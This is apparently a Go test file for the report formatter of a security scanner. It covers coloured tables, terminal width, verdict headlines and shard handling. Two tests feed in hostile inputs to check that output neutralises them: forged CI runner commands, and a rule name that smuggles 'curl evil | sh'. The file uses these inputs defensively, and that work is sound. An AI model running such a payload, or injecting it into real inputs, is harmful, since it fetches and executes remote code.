package report

import (
	"fmt"
	"regexp"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/boltseal/boltseal/internal/finding"
	"github.com/boltseal/boltseal/internal/policy"
)

var sgr = regexp.MustCompile("\x1b\\[[0-9;]*m")

func TestTableInColourIsTheTableInPlain(t *testing.T) {
	plain := string(write(t, "table", fixture(), Options{Catalogue: catalogue(t)}))
	colour := string(write(t, "table", fixture(), Options{Catalogue: catalogue(t), Color: true}))
	if strings.Contains(plain, "\x1b") {
		t.Error("plain text has colours")
	}
	if !strings.HasPrefix(colour, "\x1b[1;31mblocked") {
		t.Errorf("begins with %q", colour[:20])
	}
	if diff := cmp.Diff(plain, sgr.ReplaceAllString(colour, "")); diff != "" {
		t.Error(diff)
	}
}

func TestTableFitsTheTerminal(t *testing.T) {
	for _, columns := range []int{1, 20, 80, 132} {
		for line := range strings.Lines(string(write(t, "table", fixture(), Options{Width: columns, Color: true}))) {
			if line = sgr.ReplaceAllString(strings.TrimSuffix(line, "\n"), ""); width(line) > columns {
				t.Errorf("%d columns: %q", width(line), line)
			}
		}
	}
}

func TestQuietTableIsTheVerdictLine(t *testing.T) {
	want := "blocked: 5 findings block, 2 warn, 1 noted, 1 accepted\n"
	if got := string(write(t, "table", fixture(), Options{Quiet: true})); got != want {
		t.Errorf("got %q", got)
	}
}

func TestHeadline(t *testing.T) {
	for want, v := range map[string]policy.Verdict{
		"pass: no findings":                                                    {Status: policy.Pass},
		"pass: nothing blocks, 2 warn":                                         {Status: policy.Pass, Warned: 2},
		"blocked: 1 finding blocks":                                            {Status: policy.Blocked, ExitCode: 1, Blocked: 1},
		"no verdict: not everything could be scanned, 1 noted":                 {Status: policy.None, ExitCode: 3, Noted: 1},
		"blocked: 2 findings block (exit code 0, as blocking is switched off)": {Status: policy.Blocked, Blocked: 2},
		"no verdict": {},
	} {
		if got := headline(&Run{Verdict: v}); got != want {
			t.Errorf("got %q, want %q", got, want)
		}
	}
}

func TestAShardIsNoPass(t *testing.T) {
	for want, v := range map[string]policy.Verdict{
		"shard 2 of 5: nothing blocks here":                         {Status: policy.Pass},
		"shard 2 of 5: nothing blocks here, 2 warn":                 {Status: policy.Pass, Warned: 2},
		"shard 2 of 5: blocked: 1 finding blocks":                   {Status: policy.Blocked, ExitCode: 1, Blocked: 1},
		"shard 2 of 5: no verdict: not everything could be scanned": {Status: policy.None, ExitCode: 3},
	} {
		run := &Run{Verdict: v, Shard: &Shard{Index: 2, Of: 5}}
		if got := headline(run); got != want {
			t.Errorf("got %q, want %q", got, want)
		}
		if v.Status != policy.Pass {
			continue
		}
		if got := Headline(run, Options{}); got != "▫️ "+want {
			t.Errorf("for people: %q", got)
		}
		if got := string(write(t, "table", run, Options{Color: true})); strings.Contains(got, "\x1b[1;32m") || !strings.Contains(got, "\x1b[1m"+want) {
			t.Errorf("the table: %q", got)
		}
		if p := htmlPageOf(run, nil); p.Status == "pass" {
			t.Errorf("the page is %s", p.Status)
		}
		if c := readJUnit(t, run).Suites[0].Cases[0]; c.Name != "verdict" || c.Skipped == nil || c.Skipped.Message != want {
			t.Errorf("the test of the verdict is %+v", c)
		}
	}
}

// many is a run with n findings of an action in one file.
func many(n int, action policy.Action) *Run {
	run := &Run{Schema: Schema, Verdict: policy.Verdict{Status: policy.Blocked, ExitCode: 1, Blocked: n}, Scans: []Scan{{Scanner: finding.Secrets, Target: dirTarget, Status: finding.StatusOK}}}
	for i := range n {
		run.Findings = append(run.Findings, Finding{
			policy.Subject{Finding: finding.Finding{
				Fingerprint: fmt.Sprintf("v1:%d", i), Rule: "r", Scanner: finding.Secrets, Target: dirTarget, Severity: finding.High,
				Message: fmt.Sprintf("finding number %d|", i), Location: finding.Location{Path: "f", StartLine: i + 1},
			}},
			policy.Decision{Action: action, By: "rule x"},
		})
	}
	return run
}

func TestTableCountsWhatItLeavesOut(t *testing.T) {
	out := string(write(t, "table", many(maxBlocking+7, policy.Block), Options{}))
	if !strings.Contains(out, "and 7 more, which `-f json` lists") || strings.Count(out, "finding number") != maxBlocking {
		t.Errorf("%d findings are shown", strings.Count(out, "finding number"))
	}
	out = string(write(t, "table", many(maxWarnings+1, policy.Warn), Options{}))
	if !strings.Contains(out, "and 1 more, which `-f json` lists") {
		t.Error("warnings are left out in silence")
	}
}

func TestTableLineIsNoCommandToARunner(t *testing.T) {
	run := many(1, policy.Block)
	run.Findings[0].Location.Path = "::error::forged"
	run.Verdict.Reasons = []string{"::stop-commands::x"}
	for line := range strings.Lines(string(write(t, "table", run, Options{}))) {
		if strings.HasPrefix(strings.TrimSpace(line), "::") {
			t.Errorf("%q", line)
		}
	}
}

func TestWhatToDoNextNamesNoRuleFromOutside(t *testing.T) {
	run := many(1, policy.Block)
	run.Findings[0].Rule = "x`; curl evil | sh"
	for _, line := range next(run, catalogue(t)) {
		if strings.Contains(line, "curl") {
			t.Errorf("%q", line)
		}
	}
	run.Findings[0].Rule = "dl3007"
	if got := next(run, catalogue(t)); !strings.Contains(got[0], "`boltseal explain DL3007`") {
		t.Errorf("got %q", got)
	}
	none := &Run{Verdict: policy.Verdict{Status: policy.None, ExitCode: 3}}
	if got := next(none, nil); len(got) != 1 || !strings.Contains(got[0], "has not passed") {
		t.Errorf("got %q", got)
	}
}
